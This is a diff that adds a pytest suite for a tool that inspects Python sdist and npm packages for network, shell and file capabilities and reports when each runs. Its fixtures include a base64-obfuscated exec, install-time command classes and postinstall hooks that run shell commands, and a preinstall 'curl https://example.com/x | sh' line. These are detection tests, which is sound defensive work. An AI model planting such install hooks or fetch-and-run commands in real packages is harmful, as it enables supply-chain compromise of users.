@@ -1,0 +1,130 @@
+"""What linking tells about small packages: capability, phase, destination and path."""
+
+import base64
+import importlib.util
+import json
+from pathlib import Path
+from types import ModuleType
+
+
+def _support() -> ModuleType:
+    path = Path(__file__).parent.parent / "support" / "inspected.py"
+    spec = importlib.util.spec_from_file_location("inspected", path)
+    assert spec is not None
+    assert spec.loader is not None
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+INSPECTED = _support()
+INFO = "Metadata-Version: 2.1\nName: acme\nVersion: 1\n"
+
+
+def sdist(tmp_path: Path, members: dict[str, str]) -> set[tuple[str, str, str | None]]:
+    return INSPECTED.told(INSPECTED.uses_of(tmp_path, "acme-1.tgz", {"PKG-INFO": INFO, **members}))
+
+
+def npm(
+    tmp_path: Path, manifest: dict[str, object], members: dict[str, str]
+) -> set[tuple[str, str, str | None]]:
+    package = json.dumps({"name": "acme", "version": "1.0.0", **manifest})
+    return INSPECTED.told(
+        INSPECTED.uses_of(tmp_path, "acme-1.0.0.tgz", {"package.json": package, **members})
+    )
+
+
+def test_a_call_at_module_level_runs_at_import_through_another_module(tmp_path: Path) -> None:
+    found = sdist(
+        tmp_path,
+        {
+            "acme/__init__.py": "from acme.helper import send\nsend()\n",
+            "acme/helper.py": (
+                "import urllib.request as r\n"
+                "HOST = 'https://' + 'example.com'\n"
+                "def send():\n    r.urlopen(HOST + '/x')\n"
+            ),
+        },
+    )
+    assert ("net.connect", "import", "https://example.com/x") in found
+
+
+def test_code_in_base64_is_a_layer(tmp_path: Path) -> None:
+    hidden = base64.b64encode(b"import os\nos.system('id')\n").decode()
+    found = sdist(
+        tmp_path,
+        {"acme/__init__.py": f"import base64\nexec(base64.b64decode('{hidden}'))\n"},
+    )
+    assert ("process.shell", "import", "id") in found
+
+
+def test_setup_py_runs_at_install_and_its_command_class_too(tmp_path: Path) -> None:
+    found = sdist(
+        tmp_path,
+        {
+            "setup.py": (
+                "import os\nfrom setuptools import setup\n"
+                "from setuptools.command.install import install\n"
+                "class Post(install):\n"
+                "    def run(self):\n        os.system('id')\n"
+                "setup(name='acme', cmdclass={'install': Post})\n"
+            )
+        },
+    )
+    assert ("process.shell", "install", "id") in found
+
+
+def test_a_helper_without_any_token_lies_on_the_path(tmp_path: Path) -> None:
+    uses = INSPECTED.uses_of(
+        tmp_path,
+        "acme-1.tgz",
+        {
+            "PKG-INFO": INFO,
+            "acme/__init__.py": "",
+            "acme/api.py": "from ._low import Client\ndef fetch():\n    return Client().go()\n",
+            "acme/_low.py": (
+                "import socket\nclass Client:\n"
+                "    def __init__(self):\n        self.s = socket.socket()\n"
+                "    def go(self):\n        self.s.connect(('203.0.113.7', 80))\n"
+            ),
+        },
+    )
+    connect = next(use for use in uses if use.api == "socket.socket.connect")
+    assert [step.function for step in connect.path] == ["fetch", "Client.go"]
+    assert connect.entry == "acme.api.fetch()"
+
+
+def test_a_function_that_nobody_calls_is_quiet_at_import(tmp_path: Path) -> None:
+    found = sdist(
+        tmp_path, {"acme/__init__.py": "import os\ndef clean():\n    os.remove('a.txt')\n"}
+    )
+    assert found == {("fs.delete", "call", "a.txt")}
+
+
+def test_a_postinstall_script_is_followed_into_its_member(tmp_path: Path) -> None:
+    found = npm(
+        tmp_path,
+        {"scripts": {"postinstall": "node setup.js"}},
+        {"setup.js": "const { execSync: run } = require('child_process');\nrun('id');\n"},
+    )
+    assert ("process.shell", "install", "id") in found
+
+
+def test_a_shell_line_of_a_script_is_read(tmp_path: Path) -> None:
+    found = npm(tmp_path, {"scripts": {"preinstall": "curl https://example.com/x | sh"}}, {})
+    assert ("net.connect", "install", "https://example.com/x") in found
+
+
+def test_interop_wrappers_of_compilers_do_not_hide_a_call(tmp_path: Path) -> None:
+    found = npm(
+        tmp_path,
+        {"main": "index.js"},
+        {
+            "index.js": (
+                "var fs_1 = __importDefault(require('fs'));\n"
+                "function save() { (0, fs_1.default.writeFileSync)('a.txt', ''); }\n"
+                "exports.save = save;\n"
+            )
+        },
+    )
+    assert ("fs.write", "call", "a.txt") in found
